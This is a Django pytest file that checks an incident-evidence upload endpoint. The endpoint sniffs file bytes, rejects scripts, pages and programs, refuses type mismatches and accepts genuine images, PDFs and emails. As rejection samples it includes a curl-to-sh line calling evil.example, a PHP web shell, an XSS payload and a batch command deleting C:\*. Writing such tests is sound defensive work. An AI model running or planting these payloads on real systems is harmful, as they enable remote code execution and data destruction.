"""Upload checks: the bytes decide; the claimed type and the name must agree; pages, scripts and programs never."""

from __future__ import annotations

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from safety_workflow.models import EvidenceFile, TimelineEntry

from . import evidence_images as ei
from .bundles_helpers import image_bytes, pdf_bytes
from .helpers import API, report

pytestmark = pytest.mark.django_db

PNG = image_bytes(40, 20)
JPEG = image_bytes(40, 20, "JPEG")
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120
PAGE = b"<!DOCTYPE html>\n<html><body><script>fetch('/api/safety/audit/')</script></body></html>"


@pytest.fixture
def incident(people, client_for):
    return report(client_for(people.councillor))


def send(client, incident_id, name, data, content_type="application/octet-stream"):
    return client.post(f"{API}/incidents/{incident_id}/evidence/",
                       {"file": SimpleUploadedFile(name, data, content_type=content_type)}, format="multipart")


@pytest.mark.parametrize("name,data,claimed", [
    ("photo.jpg", PAGE, "image/jpeg"),
    ("screenshot.png", b"  \n<html><head><title>x</title></head></html>", "image/png"),
    ("notes.txt", b"#!/bin/sh\ncurl http://evil.example | sh\n", "text/plain"),
    ("notes.txt", b"<?php system($_GET['c']); ?>", "text/plain"),
    ("message.eml", b"<script>alert(document.cookie)</script>", "message/rfc822"),
    ("chart.png", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>',
     "image/png"),
    ("letter.txt", b"Dear councillor,\n" + b"padding line\n" * 900 + b"<iframe src='http://evil.example'>",
     "text/plain"),
    ("run.bat", b"@echo off\r\ndel /q C:\\*\r\n", "application/octet-stream"),
    ("invoice.pdf", ELF, "application/pdf"),
    ("photo.jpg", EXE, "image/jpeg"),
], ids=["html-as-jpeg", "html-as-png", "shell-script", "php", "script-as-eml", "svg-with-script",
        "iframe-after-8kb", "batch-file", "elf", "exe"])
def test_pages_scripts_and_programs_are_refused_whatever_they_are_called(people, client_for, incident, name, data,
                                                                        claimed):
    response = send(client_for(people.councillor), incident["id"], name, data, claimed)
    assert response.status_code == 415, response.content
    body = response.json()
    assert body["code"] == "active_content" and "never accepted" in body["message"]
    assert not EvidenceFile.objects.exists()
    assert not TimelineEntry.objects.filter(action="evidence_added").exists()


@pytest.mark.parametrize("name,data,claimed,why", [
    ("letter.pdf", PNG, "application/octet-stream", "its name ends in .pdf, but its bytes are image/png"),
    ("screenshot.png", PNG, "application/pdf", "it was sent as application/pdf, but its bytes are image/png"),
    ("photo.png", JPEG, "image/jpeg", "its name ends in .png, but its bytes are image/jpeg"),
    ("notes.txt", pdf_bytes([(595, 842, 0, "x")]), "text/plain", "it was sent as text/plain"),
    ("notes.txt", b"Just words.", "text/html", "it was sent as text/html"),
], ids=["png-named-pdf", "png-claimed-pdf", "jpeg-named-png", "pdf-claimed-text", "text-claimed-html"])
def test_the_claimed_type_and_the_name_must_agree_with_the_bytes(people, client_for, incident, name, data,
                                                                 claimed, why):
    response = send(client_for(people.councillor), incident["id"], name, data, claimed)
    assert response.status_code == 415, response.content
    assert response.json()["code"] == "file_type_mismatch" and why in response.json()["message"]
    assert not EvidenceFile.objects.exists()


@pytest.mark.parametrize("name,data,claimed,sniffed", [
    ("photo.png", PNG, "image/png", "image/png"),
    ("photo.JPG", JPEG, "image/jpg", "image/jpeg"),
    ("IMG_0042", JPEG, "application/octet-stream", "image/jpeg"),
    ("letter.pdf", pdf_bytes([(595, 842, 0, "x")]), "application/pdf", "application/pdf"),
    ("forwarded.eml", b"From: a@mail.example\r\nSubject: x\r\n\r\nbody", "message/rfc822", "message/rfc822"),
    ("forwarded.txt", b"From: a@mail.example\r\nSubject: x\r\n\r\nbody", "text/plain", "message/rfc822"),
    ("notes.txt", b"I know where you live. <3", "text/plain; charset=utf-8", "text/plain"),
], ids=["png", "jpg-alias", "no-extension", "pdf", "eml", "email-saved-as-txt", "text-with-a-heart"])
def test_honest_files_are_accepted(people, client_for, incident, name, data, claimed, sniffed):
    response = send(client_for(people.councillor), incident["id"], name, data, claimed)
    assert response.status_code == 201, response.content
    assert response.json()["content_type"] == sniffed


def test_an_empty_file_answers_empty_file(people, client_for, incident):
    response = send(client_for(people.councillor), incident["id"], "photo.png", b"", "image/png")
    assert response.status_code == 400 and response.json()["code"] == "empty_file"
    assert response.json()["errors"] == {"file": ["The file is empty."]}


def test_a_real_screenshot_photo_and_scan_are_accepted(people, client_for, incident):
    client = client_for(people.councillor)
    for name, (data, _), claimed in (("post.png", ei.screenshot_png(), "image/png"),
                                     ("letter.jpg", ei.photo_of_letter_jpeg(), "image/jpeg"),
                                     ("scan.pdf", ei.scanned_letter_pdf(), "application/pdf")):
        assert send(client, incident["id"], name, data, claimed).status_code == 201
